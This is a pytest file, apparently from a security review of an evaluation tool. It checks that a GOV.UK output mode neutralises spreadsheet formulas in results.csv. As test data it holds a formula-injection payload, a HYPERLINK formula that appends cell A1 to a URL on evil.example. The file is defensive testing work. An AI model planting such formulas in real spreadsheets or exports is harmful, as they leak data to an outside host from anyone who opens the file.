"""attack2: hostile data rows in GOV.UK output mode (--evals-govuk-outputs)."""

from __future__ import annotations

import csv
import json

import pytest

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.defect("A2-8 LOW: GOV.UK output mode writes spreadsheet formulas from data rows "
                    "as live cells (our own results.csv neutralises them)")
def test_govuk_results_csv_neutralises_formulas(pytester: pytest.Pytester) -> None:
    """A2-8 (LOW; a fidelity trade-off, docs/govuk.md promises their cell encoding). A
    jailbreak row whose ``question`` (or ``model``) starts with ``=``, ``+``, ``-`` or ``@``
    lands raw in ``DIR/jailbreak_guardrails/<time>/results.csv``: opened in Excel/Sheets
    (where their team reads these files) it is a live formula. The same run's own
    ``--evals-report-dir`` results.csv writes ``'=HYPERLINK(...`` (neutralised). Expected:
    the same neutralising in GOV.UK mode, or at least a warning naming the cells."""
    (pytester.path / "data").mkdir()
    rows = [{"question": FORMULA, "expected_outcome": True, "actual_outcome": True, "model": "@SUM(1+1)"}]
    (pytester.path / "data" / "jailbreak_guardrails.jsonl").write_text(
        "".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    (pytester.path / "jailbreak_guardrails.yaml").write_text(
        "what: x\ngenerate: false\ninput_path: data/jailbreak_guardrails.jsonl\n", encoding="utf-8")
    result = pytester.runpytest("--evals-suite-pattern", "jailbreak_guardrails.yaml",
                                "--evals-govuk-outputs", "out", "-p", "no:randomly")
    assert result.ret == 0
    (path,) = (pytester.path / "out").glob("jailbreak_guardrails/*/results.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    live = [c for c in cells if c[:1] in ("=", "+", "@")]
    assert live == [], f"live formula cells in {path.name}: {live}"
